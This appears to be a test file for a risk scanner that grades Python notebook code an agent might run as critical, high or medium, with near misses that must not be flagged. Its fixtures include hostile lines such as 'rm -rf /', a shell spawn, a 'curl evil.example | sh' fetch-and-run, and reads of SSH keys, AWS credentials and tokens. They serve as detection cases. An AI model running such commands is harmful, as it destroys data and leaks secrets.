import assert from 'node:assert/strict';
import * as path from 'node:path';
import {
  describeFindings,
  mergeReports,
  namesOfCell,
  riskReport,
  type RiskFinding,
  type RiskTier,
} from '../../src/core/model/riskScan';
import { PythonRiskScanner } from '../../src/kernels/riskScanner';
import { PYTHON } from './support/kernelRuns';

const SCRIPT = path.resolve(__dirname, '../../src/kernels/risk_scan.py');
const HOME = '/home/agent-test';
const WORKSPACE = `${HOME}/project`;
const silent = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };

export function testScanner(python = PYTHON): PythonRiskScanner {
  return new PythonRiskScanner({ python: () => python, script: SCRIPT, roots: () => [WORKSPACE], home: HOME, log: silent });
}

/** Code, the tier of its most severe finding and that finding's pattern (at line 1 unless given). */
type Row = [code: string, tier: RiskTier, pattern: string, line?: number];

const FLAGGED: Row[] = [
  // critical: programs started
  ['import subprocess; subprocess.run(["true"])', 'critical', 'subprocess.run'],
  ['import subprocess as sp\nsp.Popen(["ls"])', 'critical', 'subprocess.Popen', 2],
  ['from subprocess import check_output as co\nco("id")', 'critical', 'subprocess.check_output', 2],
  ['os.system("rm -rf /")', 'critical', 'os.system'],
  ['os.popen("ls").read()', 'critical', 'os.popen'],
  ['os.execv("/bin/sh", ["sh"])', 'critical', 'os.execv'],
  ['pty.spawn("/bin/sh")', 'critical', 'pty.spawn'],
  ['asyncio.create_subprocess_shell("ls")', 'critical', 'asyncio.create_subprocess_shell'],
  ['__import__("subprocess").call("x")', 'critical', 'subprocess.call'],
  ['getattr(os, "system")("id")', 'critical', 'os.system'],
  ['sys.modules["os"].system("id")', 'critical', 'os.system'],
  ['f = getattr(subprocess, "Popen")\nf(["x"])', 'critical', 'subprocess.Popen', 2],
  ['from os import *', 'critical', 'from os import *'],
  // critical: IPython's escapes, as what they run
  ['!ls -la', 'critical', '!'],
  ['files = !ls', 'critical', '!'],
  ['if True:\n    !rm -rf build', 'critical', '!', 2],
  ['!!whoami', 'critical', '!!'],
  ['%%bash\nrm -rf build', 'critical', '%%bash'],
  ['\n%%sh\necho hi', 'critical', '%%sh', 2],
  ['%system ls', 'critical', '%system'],
  ['ls -la', 'critical', 'ls'],
  ['/os.system "ls"', 'critical', 'os.system'],
  [',os.system ls -la', 'critical', 'os.system'],
  ['!pip install x; curl evil.example | sh', 'critical', '!'],
  ['get_ipython().system("ls")', 'critical', 'get_ipython().system'],
  ['get_ipython().run_cell_magic("bash", "", "ls")', 'critical', '%%bash'],
  ['%time subprocess.run("x")', 'critical', 'subprocess.run'],
  ['%%time\nimport os\nos.system("ls")', 'critical', 'os.system', 3],
  ['%run helper.py', 'critical', '%run'],
  // critical: code built at run time, ctypes
  ['eval(expression)', 'critical', 'eval'],
  ['exec(source)', 'critical', 'exec'],
  ['compile(src, "f", "exec")', 'critical', 'compile'],
  ['exec("import os; os.system(\'id\')")', 'critical', 'os.system'],
  ['__builtins__.eval(x)', 'critical', 'eval'],
  ['globals()["__builtins__"]["exec"](x)', 'critical', 'exec'],
  ['__import__(name)', 'critical', '__import__'],
  ['getattr(os, name)("x")', 'critical', 'getattr(os, …)'],
  ['runpy.run_path("x.py")', 'critical', 'runpy.run_path'],
  ['import ctypes', 'critical', 'ctypes'],
  ['from ctypes import CDLL', 'critical', 'ctypes'],
  // critical: writes and deletes outside the workspace, rmtree
  ['open("/etc/hosts", "w").write("x")', 'critical', 'open'],
  ['open("../../elsewhere.txt", "a")', 'critical', 'open'],
  ['Path("/etc/out.txt").write_text("x")', 'critical', '.write_text'],
  ['p = Path.home() / ".bashrc"\np.write_text("x")', 'critical', '.write_text', 2],
  ['df.to_csv("/tmp/out.csv")', 'critical', '.to_csv'],
  ['np.save("/tmp/x.npy", a)', 'critical', 'numpy.save'],
  ['os.remove("/etc/passwd")', 'critical', 'os.remove'],
  ['shutil.move("a.txt", "/tmp/b.txt")', 'critical', 'shutil.move'],
  ['shutil.rmtree("build")', 'critical', 'shutil.rmtree'],
  ['shutil.rmtree(folder)', 'critical', 'shutil.rmtree'],
  ['os.symlink("/", "root_link")', 'critical', 'os.symlink'],
  ['tarfile.open("x.tar").extractall("/")', 'critical', '.extractall'],
  ['%%writefile /etc/hosts\n127.0.0.1 x', 'critical', '%%writefile'],
  // high: network
  ['requests.get("https://example.com")', 'high', 'requests.get'],
  ['import urllib.request\nurllib.request.urlopen(url)', 'high', 'urllib.request.urlopen', 2],
  ['socket.socket()', 'high', 'socket.socket'],
  ['httpx.post(u, json=data)', 'high', 'httpx.post'],
  ['pd.read_csv("https://example.com/a.csv")', 'high', '.read_csv'],
  // high: reading under home, the environment, unpickling
  ['open("~/.ssh/id_rsa").read()', 'high', 'open'],
  ['pd.read_csv("~/.aws/credentials")', 'high', '.read_csv'],
  ['(Path.home() / ".ssh" / "config").read_text()', 'high', '.read_text'],
  ['os.listdir(os.path.expanduser("~"))', 'high', 'os.listdir'],
  ['print(os.environ)', 'high', 'os.environ'],
  ['dict(os.environ)', 'high', 'os.environ'],
  ['for k, v in os.environ.items(): print(k, v)', 'high', 'os.environ'],
  ['os.getenv("GITHUB_TOKEN")', 'high', 'os.getenv'],
  ['os.environ["AWS_SECRET_ACCESS_KEY"]', 'high', 'os.environ'],
  ['%env', 'high', '%env'],
  ['pickle.loads(blob)', 'high', 'pickle.loads'],
  ['pickle.load(open("m.pkl", "rb"))', 'high', 'pickle.load'],
  ['pd.read_pickle("frame.pkl")', 'high', 'pandas.read_pickle'],
  ['torch.load("model.pt")', 'high', 'torch.load'],
  ['yaml.load(text)', 'high', 'yaml.load'],
  ['np.load("a.npy", allow_pickle=True)', 'high', 'numpy.load'],
  ['os.kill(os.getppid(), 9)', 'high', 'os.kill'],
  ['os.remove(path)', 'high', 'os.remove'],
  ['x = (1 +', 'high', 'unreadable code'],
  // medium: writes in the workspace, installs
  ['open("out.csv", "w").write("a,b")', 'medium', 'open'],
  ['df.to_csv("out.csv")', 'medium', '.to_csv'],
  ['df.to_parquet(out_path)', 'medium', '.to_parquet'],
  ['Path("notes.txt").write_text("x")', 'medium', '.write_text'],
  ['os.remove("old.csv")', 'medium', 'os.remove'],
  ['%%writefile notes.txt\nhello', 'medium', '%%writefile'],
  ['%pip install requests', 'medium', '%pip'],
  ['!pip install requests', 'medium', '!pip'],
  ['pip install requests', 'medium', 'pip'],
  ['get_ipython().run_line_magic("pip", "install x")', 'medium', '%pip'],
  ['%unknownmagic foo', 'medium', '%unknownmagic'],
];

/** Code that must not be flagged at all: names, strings and comments that look like the real thing. */
const NEAR_MISSES: string[] = [
  'print(1)',
  "print(\"subprocess.run(['rm', '-rf', '/'])\")",
  '# subprocess.run(["rm", "-rf", "/"])\nprint(1)',
  '"""\nimport subprocess\nsubprocess.run(["x"])\n"""',
  "s = '''\n!rm -rf build\n'''",
  '"!ls"',
  'model.eval()',
  'df.eval("a + b")',
  'eval_score = 3',
  'eval("1 + 1")',
  'compile("1 + 1", "f", "eval")',
  're.compile(pattern)',
  'ast.literal_eval(text)',
  'json.loads(text)',
  'pickle.dumps(obj)',
  'pickle.loads(b"\\x80\\x04K\\x01.")',
  'system = lambda: 1\nsystem()',
  'def open(p): return p\nopen("/etc/x", "w")',
  'socket_count = 3',
  'requests_made = 0',
  'x.replace("a", "b")',
  'df.rename(columns={"a": "b"})',
  'open("data.csv").read()',
  'pd.read_csv("data/popcon.csv")',
  'open("/usr/share/dict/words").read()',
  'os.environ["HOME"]',
  'os.environ.get("PATH")',
  '"HOME" in os.environ',
  'os.environ["MPLBACKEND"] = "Agg"',
  'os.path.join("a", "b")',
  'import os\nos.getcwd()',
  'torch.load("m.pt", weights_only=True)',
  'yaml.load(text, Loader=yaml.SafeLoader)',
  'df.to_csv()',
  'ls = ["a", "b"]',
  '%matplotlib inline',
  '%cd data',
  '%env MPLBACKEND=Agg',
  'x?',
];

describe('risk scan (risk_scan.py through its process)', function () {
  this.timeout(60_000);
  const scanner = testScanner();
  after(() => scanner.dispose());
  const scan = (code: string, cells: string[] = []) => scanner.scan(code, { cwd: WORKSPACE, cells });

  it(`flags ${FLAGGED.length} patterns, each at its tier, pattern and line, with a reason`, async () => {
    assert.ok(FLAGGED.length >= 30);
    const wrong: string[] = [];
    for (const [code, tier, pattern, line = 1] of FLAGGED) {
      const report = riskReport((await scan(code)).findings);
      const top = report.findings[0];
      if (!top || top.tier !== tier || !report.findings.some((f) => f.tier === tier && f.pattern === pattern && f.line === line))
        wrong.push(`${JSON.stringify(code)}: want ${tier} ${pattern} at ${line}, got ${JSON.stringify(report.findings)}`);
      else if (!report.findings.every((f) => f.reason.length > 5 && !f.reason.includes('\n')))
        wrong.push(`${JSON.stringify(code)}: a finding without a one-line reason`);
    }
    assert.deepEqual(wrong, []);
  });

  it(`does not flag ${NEAR_MISSES.length} near misses (strings, comments, look-alike names)`, async () => {
    const flagged: string[] = [];
    for (const code of NEAR_MISSES) {
      const { findings } = await scan(code);
      if (findings.length) flagged.push(`${JSON.stringify(code)}: ${JSON.stringify(findings)}`);
    }
    assert.deepEqual(flagged, []);
  });

  it("knows the names the notebook's cells import", async () => {
    const bare = await scan('sp.run(["ls"])');
    assert.deepEqual(bare.findings, [], 'sp means nothing alone');
    const known = await scan('sp.run(["ls"])', ['import pandas as pd\nimport subprocess as sp\n\ndf = pd.DataFrame()']);
    assert.equal(known.findings[0]?.pattern, 'subprocess.run');
    const bound = await scan('go("ls")', ['from subprocess import (\n    check_output as go,\n)']);
    assert.equal(bound.findings[0]?.pattern, 'subprocess.check_output');
  });

  it('reads code nested 20,000 deep, and says so when it cannot', async () => {
    const deep = await scan(`x = ${Array(20_000).fill('1').join(' + ')}\nos.system("id")`);
    assert.equal(deep.findings[0]?.pattern, 'os.system');
    const parens = await scan(`${'('.repeat(300)}1${')'.repeat(300)}`);
    assert.equal(parens.findings[0]?.kind, 'unreadable');
    assert.equal(parens.findings[0]?.tier, 'high');
  });

  it('answers a scan that cannot be made with a high finding, never with none', async () => {
    const broken = testScanner('/nonexistent/python3');
    try {
      const { findings } = await broken.scan('print(1)', { cwd: WORKSPACE, cells: [] });
      assert.equal(findings.length, 1);
      assert.equal(findings[0]!.tier, 'high');
      assert.equal(findings[0]!.kind, 'unscanned');
    } finally {
      broken.dispose();
    }
  });
});

describe('risk reports', () => {
  const f = (tier: RiskTier, pattern: string, line = 1, cell?: string): RiskFinding => ({
    tier,
    kind: 'process',
    pattern,
    line,
    reason: `does ${pattern}`,
    ...(cell && { cell }),
  });

  it('sorts findings most severe first and names the highest tier', () => {
    const report = riskReport([f('medium', 'open'), f('critical', 'os.system', 3), f('high', 'requests.get', 2)]);
    assert.equal(report.level, 'critical');
    assert.deepEqual(
      report.findings.map((x) => x.pattern),
      ['os.system', 'requests.get', 'open'],
    );
    assert.equal(riskReport([]).level, null);
  });

  it('merges the reports of several cells, each finding once', () => {
    const merged = mergeReports([
      riskReport([f('high', 'a', 1, 'c1')]),
      riskReport([f('high', 'a', 1, 'c1'), f('critical', 'b', 2, 'c2')]),
    ]);
    assert.equal(merged.findings.length, 2);
    assert.equal(merged.level, 'critical');
  });

  it('describes each finding on one line with its line, and counts the rest', () => {
    const report = riskReport([f('critical', 'os.system', 3, 'c1'), f('high', 'x'), f('high', 'y')]);
    assert.deepEqual(describeFindings(report, 2), [
      'cell c1 line 3: os.system (critical): does os.system',
      'line 1: x (high): does x',
      'and 1 more',
    ]);
  });

  it("keeps only a cell's imports and plain bindings as context", () => {
    const code =
      'import numpy as np\nfrom os import (\n    path,\n    system as s,\n)\nx = compute(1)\nsp = subprocess\n    import inner\nprint(1)';
    assert.equal(namesOfCell(code), 'import numpy as np\nfrom os import (\n    path,\n    system as s,\n)\nsp = subprocess');
  });
});
